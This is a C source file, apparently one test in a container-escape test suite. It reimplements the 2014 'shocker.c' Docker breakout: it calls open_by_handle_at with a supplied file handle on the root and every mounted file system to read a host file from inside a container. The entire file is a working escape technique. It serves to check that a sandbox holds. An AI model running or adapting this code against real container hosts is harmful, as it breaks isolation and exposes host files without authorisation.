/*
 * Idea: a file handle names an inode of a file system, not a path: who may open handles, and has any descriptor on
 * the same file system, reaches every file of it, whatever the root is. (The original guesses the handle of inode 2
 * and walks down; ours is told the handle, so that it does not depend on the kind of file system.)
 * Incident: "shocker.c" against Docker 0.11, 2014.
 * Success: the host's file is opened by its handle.
 * Usage: open-by-handle TYPE HEX; open-by-handle --of FILE prints TYPE and HEX
 */
#include "attempt.h"
#include <mntent.h>

static union {
  struct file_handle handle;
  unsigned char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
} target;

static int print_handle(const char *path) {
  int mount;
  target.handle.handle_bytes = MAX_HANDLE_SZ;
  if (name_to_handle_at(AT_FDCWD, path, &target.handle, &mount, 0) < 0)
    missing("name_to_handle_at %s: %s", path, strerror(errno));
  printf("%d ", target.handle.handle_type);
  for (unsigned i = 0; i < target.handle.handle_bytes; i++) printf("%02x", target.handle.f_handle[i]);
  putchar('\n');
  return 0;
}

static void try_on(const char *path) {
  char line[256];
  int mount = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (mount < 0) return;
  int file = open_by_handle_at(mount, &target.handle, O_RDONLY | O_CLOEXEC);
  close(mount);
  if (file < 0) {
    stopped("open_by_handle_at on %s", path);
    return;
  }
  ssize_t length = pread(file, line, sizeof line - 1, 0);
  line[length < 0 ? 0 : length] = '\0';
  line[strcspn(line, "\n")] = '\0';
  escaped("read \"%s\" by its handle, through %s", line, path);
}

int main(int argc, char **argv) {
  const char *type = argument(argc, argv, 1, "the type of the handle");
  const char *hex = argument(argc, argv, 2, "the handle in hexadecimal");
  if (strcmp(type, "--of") == 0) return print_handle(hex);
  target.handle.handle_type = atoi(type);
  target.handle.handle_bytes = strlen(hex) / 2;
  if (target.handle.handle_bytes > MAX_HANDLE_SZ) missing("a handle of at most %d bytes", MAX_HANDLE_SZ);
  for (unsigned i = 0; i < target.handle.handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &target.handle.f_handle[i]);
  try_on("/");
  FILE *mounts = setmntent("/proc/self/mounts", "r");
  for (struct mntent *mount; mounts && (mount = getmntent(mounts));) try_on(mount->mnt_dir);
  contained();
}
